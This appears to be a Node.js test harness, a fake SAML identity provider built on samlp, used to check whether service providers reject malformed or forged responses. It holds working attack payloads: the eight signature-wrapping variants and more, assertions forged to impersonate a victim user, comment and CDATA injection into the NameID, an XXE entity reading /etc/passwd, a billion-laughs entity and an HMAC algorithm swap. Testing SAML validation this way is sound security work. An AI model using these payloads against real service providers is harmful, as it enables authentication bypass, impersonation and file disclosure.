// A SAML 2.0 identity provider: Auth0's samlp as its makers ship it, and one that answers as it is told to. The first line
// tells its entity id, its URL and its certificates. POST /plan says whom the next answers are about, and what is wrong with
// them; GET /sso answers with the form that a browser would post, as JSON; GET /metadata is samlp's.
import { createSign, generateKeyPairSync, sign as signBytes } from "node:crypto";
import { createServer } from "node:http";
import { promisify } from "node:util";
import { inflateRawSync } from "node:zlib";
import samlp from "samlp";
import { SignedXml } from "xml-crypto";

const SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
const MORE = "http://www.w3.org/2001/04/xmldsig-more#";
const DIGEST = { sha1: "http://www.w3.org/2000/09/xmldsig#sha1", sha256: "http://www.w3.org/2001/04/xmlenc#sha256" };
const METHOD = { "rsa-sha1": "http://www.w3.org/2000/09/xmldsig#rsa-sha1", "rsa-sha256": `${MORE}rsa-sha256`, "ecdsa-sha256": `${MORE}ecdsa-sha256` };

class EcdsaSha256 {
  getSignature(info, key) {
    return signBytes("sha256", Buffer.from(info), { key, dsaEncoding: "ieee-p1363" }).toString("base64");
  }
  getAlgorithmName() {
    return METHOD["ecdsa-sha256"];
  }
}
SignedXml.SignatureAlgorithms[METHOD["ecdsa-sha256"]] = EcdsaSha256;

// A certificate that its own key signs (RFC 5280), in DER and by hand: node makes none.
function der(tag, ...parts) {
  const body = Buffer.concat(parts);
  const size = body.length < 128 ? [body.length] : body.length < 256 ? [0x81, body.length] : [0x82, body.length >> 8, body.length & 255];
  return Buffer.concat([Buffer.from([tag, ...size]), body]);
}
const oid = (...bytes) => der(0x06, Buffer.from(bytes));
function certificate({ privateKey, publicKey }, algorithm) {
  const name = der(0x30, der(0x31, der(0x30, oid(0x55, 4, 3), der(0x0c, Buffer.from("provider")))));
  const time = (text) => der(0x17, Buffer.from(text));
  const spki = publicKey.export({ type: "spki", format: "der" });
  const tbs = der(0x30, der(0x02, Buffer.from([1])), algorithm, name, der(0x30, time("200101000000Z"), time("490101000000Z")), name, spki);
  const signature = createSign("sha256").update(tbs).sign(privateKey);
  const body = der(0x30, tbs, algorithm, der(0x03, Buffer.from([0]), signature)).toString("base64");
  return `-----BEGIN CERTIFICATE-----\n${body.match(/.{1,64}/g).join("\n")}\n-----END CERTIFICATE-----\n`;
}
function identity(kind, options) {
  const pair = generateKeyPairSync(kind, options);
  const rsa = [oid(0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 1, 11), der(0x05)];
  const ecdsa = [oid(0x2a, 0x86, 0x48, 0xce, 0x3d, 4, 3, 2)];
  const cert = certificate(pair, der(0x30, ...(kind === "rsa" ? rsa : ecdsa)));
  return { cert, key: pair.privateKey.export({ type: "pkcs8", format: "pem" }), publicKey: pair.publicKey.export({ type: "spki", format: "pem" }) };
}
const own = identity("rsa", { modulusLength: 2048 });
const others = identity("rsa", { modulusLength: 2048 });
const curve = identity("ec", { namedCurve: "P-256" });
const weak = identity("rsa", { modulusLength: 1024 });

let issuer;
let plan = {};

// What samlp is told of a user, and by which names it passes that on.
function Profile({ id, email, name }) {
  const claims = { email, name };
  return { getClaims: () => claims, getNameIdentifier: () => ({ nameIdentifier: id, nameIdentifierFormat: plan.format }) };
}

function options(acs, id) {
  const user = { id: plan.id ?? "1", email: plan.email, name: plan.name };
  const given = {
    issuer, cert: own.cert, key: own.key, profileMapper: () => Profile(user), destination: acs, recipient: acs,
    audience: acs.replace(/acs$/, "metadata"), inResponseTo: id, signatureAlgorithm: "rsa-sha256", digestAlgorithm: "sha256",
  };
  return { ...given, ...(plan.options ?? {}) };
}

// Signs an element right behind its issuer. samlp signs on its own; this is for what was changed before.
function signed(xml, { on = "Assertion", of = on, by = own, shown = by, method = "rsa-sha256", digest = "sha256" } = {}) {
  const signature = new SignedXml(null, { signatureAlgorithm: METHOD[method] });
  const [enveloped, exclusive] = ["http://www.w3.org/2000/09/xmldsig#enveloped-signature", "http://www.w3.org/2001/10/xml-exc-c14n#"];
  signature.addReference(`//*[local-name(.)='${of}']`, [enveloped, exclusive], DIGEST[digest]);
  signature.signingKey = by.key;
  const body = shown.cert.replaceAll(/-----.*-----|\n/g, "");
  signature.keyInfoProvider = { getKeyInfo: () => `<X509Data><X509Certificate>${body}</X509Certificate></X509Data>` };
  const reference = `//*[local-name(.)='${on}']/*[local-name(.)='Issuer']`;
  signature.computeSignature(xml, { location: { action: "after", reference } });
  return signature.getSignedXml();
}

// A signed response in parts: around its assertion, the assertion, its signature, and the assertion without that.
function parts(xml) {
  const [, head, assertion, tail] = xml.match(/^([^]*?)(<saml:Assertion[^]*<\/saml:Assertion>)([^]*)$/);
  const [signature] = assertion.match(/<Signature[^]*<\/Signature>/);
  return { head, assertion, tail, signature, bare: assertion.replace(signature, "") };
}

const VICTIM = "victim@corp.example";
const forge = (assertion, id = "_forged") =>
  assertion.replace(/ ID="[^"]*"/, ` ID="${id}"`).replaceAll(plan.email, VICTIM).replaceAll(">1<", ">2<");
const inside = (outer, tag, inner) => outer.replace(new RegExp(`</${tag}>(?![^]*</${tag}>)`), `${inner}</${tag}>`);

// Signature wrapping, as in "On Breaking SAML" (Somorovsky and others, 2012): the eight of its tables, and more.
const WRAPPED = {
  xsw1: (xml) => { const { head, tail, bare, signature } = parts(xml); return head.replace(/ ID="[^"]*"/, ' ID="_r"') + forge(bare).replace("</saml:Issuer>", `</saml:Issuer>${inside(signature, "Signature", xml)}`) + tail; },
  xsw2: (xml) => { const { head, tail, bare, signature } = parts(xml); return head.replace(/ ID="[^"]*"/, ' ID="_r"') + xml + signature + forge(bare) + tail; },
  xsw3: (xml) => { const { head, assertion, tail, bare } = parts(xml); return head + forge(bare) + assertion + tail; },
  xsw4: (xml) => { const { head, assertion, tail, bare } = parts(xml); return head + inside(forge(bare), "saml:Assertion", assertion) + tail; },
  xsw5: (xml) => { const { head, assertion, tail, bare } = parts(xml); return head + forge(assertion) + bare + tail; },
  xsw6: (xml) => { const { head, assertion, tail, signature, bare } = parts(xml); return head + forge(assertion).replace(signature, inside(signature, "Signature", bare)) + tail; },
  xsw7: (xml) => { const { head, assertion, tail, bare } = parts(xml); return `${head}<samlp:Extensions>${forge(bare)}</samlp:Extensions>${assertion}${tail}`; },
  xsw8: (xml) => { const { head, assertion, tail, signature, bare } = parts(xml); return head + forge(assertion).replace(signature, inside(signature, "Signature", `<Object>${bare}</Object>`)) + tail; },
  "one id twice": (xml) => { const { head, assertion, tail, bare } = parts(xml); const [id] = bare.match(/_[^"]*/); return head + forge(bare, id) + assertion + tail; },
  "moved": (xml) => { const { head, assertion, tail, signature, bare } = parts(xml); return head + forge(assertion) + tail.replace("</samlp:Response>", `<x:Assertion xmlns:x="urn:x">${signature}${bare}</x:Assertion></samlp:Response>`); },
  "two signed": (xml) => { const { head, assertion, tail, bare } = parts(xml); return head + assertion + signed(forge(bare)) + tail; },
};

// What is wrong before the assertion is signed; and what is done with the signed message.
const minutes = (count) => new Date(Date.now() + count * 60_000).toISOString();
const window = (from, to) => (xml) => xml.replace(/NotBefore="[^"]*"/, `NotBefore="${minutes(from)}"`).replaceAll(/NotOnOrAfter="[^"]*"/g, `NotOnOrAfter="${minutes(to)}"`);
const data = (name) => (xml) => xml.replace(new RegExp(`(<saml:SubjectConfirmationData[^>]*) ${name}="[^"]*"`), "$1");
const BEFORE = {
  "expired": window(-60, -2),
  "expired at the subject": (xml) => xml.replace(/(<saml:SubjectConfirmationData[^>]*NotOnOrAfter=)"[^"]*"/, `$1"${minutes(-2)}"`),
  "not yet": window(2, 60),
  "a little late": window(-60, -0.5),
  "a little early": window(0.5, 60),
  "without end": data("NotOnOrAfter"),
  "recipient": (xml) => xml.replace(/Recipient="[^"]*"/, 'Recipient="https://another.example/acs"'),
  "no recipient": data("Recipient"),
  "audience": (xml) => xml.replace(/<saml:Audience>[^<]*/, "<saml:Audience>https://another.example"),
  "no audience": (xml) => xml.replace(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/, ""),
  "issuer": (xml) => xml.replace(/(<saml:Assertion[^]*?<saml:Issuer>)[^<]*/, "$1https://another.example"),
  "another request": data("InResponseTo"),
  "another request at the subject": (xml) => xml.replace(/(<saml:SubjectConfirmationData[^>]*InResponseTo=)"[^"]*"/, '$1"_another"'),
  "not by the bearer": (xml) => xml.replace("cm:bearer", "cm:sender-vouches"),
  "failed": (xml) => xml.replace("status:Success", "status:Responder"),
  "the same again": (xml) => xml.replace(/(<saml:Assertion[^>]* ID=)"[^"]*"/, '$1"_the_same"'),
  "ends early": (xml) => xml.replaceAll(plan.email, `${VICTIM}.evil.example`),
};
const AFTER = {
  "ends early": (xml) => xml.replaceAll(`${VICTIM}.evil`, `${VICTIM}<!---->.evil`),
  "instruction": (xml) => xml.replaceAll(plan.email, `${VICTIM}<?x?>`),
  "cdata": (xml) => xml.replaceAll(plan.email, `<![CDATA[${plan.email}]]>`),
  "document type": (xml) => `<!DOCTYPE Response [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replaceAll(plan.email, "&x;")}`,
  "laughs": (xml) => `<!DOCTYPE Response [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${xml}`,
  "changed": (xml) => xml.replaceAll(plan.email, VICTIM),
  "changed signature": (xml) => xml.replace(/<SignatureValue>..../, "<SignatureValue>AAAA"),
  "hmac": (xml) => xml.replace(`${MORE}rsa-sha256`, `${MORE}hmac-sha256`),
  "destination": (xml) => xml.replace(/Destination="[^"]*"/, 'Destination="https://another.example/acs"'),
  "no destination": (xml) => xml.replace(/Destination="[^"]*"/, ""),
  "another request at the response": (xml) => xml.replace(/(<samlp:Response[^>]*InResponseTo=)"[^"]*"/, '$1"_another"'),
  "no request": (xml) => xml.replace(/(<samlp:Response[^>]*) InResponseTo="[^"]*"/, "$1"),
};
const SIGNED = {
  "another's key": { by: others },
  "another's key under our certificate": { by: others, shown: own },
  "sha1": { method: "rsa-sha1" },
  "sha1 digest": { digest: "sha1" },
  "curve": { by: curve, method: "ecdsa-sha256" },
  "of the response": { of: "Response" },
  "of the name": { of: "Subject" },
};
const build = promisify(samlp.getSamlResponse);

async function response(acs, id) {
  const { flaw } = plan;
  const given = options(acs, id);
  const user = {};
  if (flaw === "unsigned") return build({ ...given, signAssertion: false }, user);
  if (flaw === "response alone") return build({ ...given, signAssertion: false, signResponse: true }, user);
  if (flaw === "both") return build({ ...given, signResponse: true }, user);
  if (flaw === "encrypted") return build({ ...given, encryptionCert: own.cert, encryptionPublicKey: own.publicKey }, user);
  const bare = await build({ ...given, signAssertion: false }, user);
  const changed = (BEFORE[flaw] ?? ((xml) => xml))(bare);
  const xml = signed(changed, SIGNED[flaw]);
  return (WRAPPED[flaw] ?? AFTER[flaw] ?? ((same) => same))(xml);
}

// The one without a plan for flaws is samlp's own way through a request, from its parsing to its form's fields.
function honest(acs, url, relay, reply) {
  const request = { method: "GET", query: Object.fromEntries(url.searchParams), user: {} };
  const responseHandler = (message, given) => reply({ acs: given.postUrl, response: message.toString("base64"), relay });
  const { audience, inResponseTo, ...given } = options(acs);
  const to = (audience, dom, _, done) => done(null, dom.documentElement.getAttribute("AssertionConsumerServiceURL"));
  samlp.auth({ ...given, getPostURL: to, responseHandler })(request, {}, (error) => reply({ status: 500, error: `${error}` }));
}

async function sso(url, reply) {
  const request = inflateRawSync(Buffer.from(url.searchParams.get("SAMLRequest"), "base64")).toString();
  const relay = url.searchParams.get("RelayState");
  const found = (name) => request.match(new RegExp(` ${name}="([^"]*)"`))[1];
  const acs = plan.acs ?? found("AssertionConsumerServiceURL");
  if (!plan.flaw) return honest(acs, url, relay, reply);
  const message = await response(acs, found("ID"));
  return reply({ acs, response: Buffer.from(message).toString("base64"), relay, request });
}

const server = createServer((request, answer) => {
  const reply = (shown) => answer.writeHead(shown.status ?? 200, { "content-type": "application/json" }).end(JSON.stringify(shown));
  let body = "";
  request.on("data", (chunk) => (body += chunk));
  request.on("end", () => {
    const url = new URL(request.url, issuer);
    if (url.pathname === "/plan") {
      plan = JSON.parse(body);
      return reply({ keys: 0, tokens: 0 });
    }
    if (url.pathname === "/metadata") {
      const text = { set: () => {}, send: (xml) => answer.writeHead(200, { "content-type": "application/xml" }).end(xml) };
      return samlp.metadata({ issuer, cert: own.cert, redirectEndpointPath: "/sso", postEndpointPath: "/sso" })({ headers: request.headers, protocol: "http", originalUrl: request.url }, text);
    }
    return sso(url, reply).catch((error) => reply({ status: 500, error: error.stack }));
  });
});
server.listen(0, "127.0.0.1", () => {
  issuer = `http://127.0.0.1:${server.address().port}`;
  const certificates = { own: own.cert, others: others.cert, curve: curve.cert, weak: weak.cert };
  console.log(JSON.stringify({ issuer, certificates }));
});
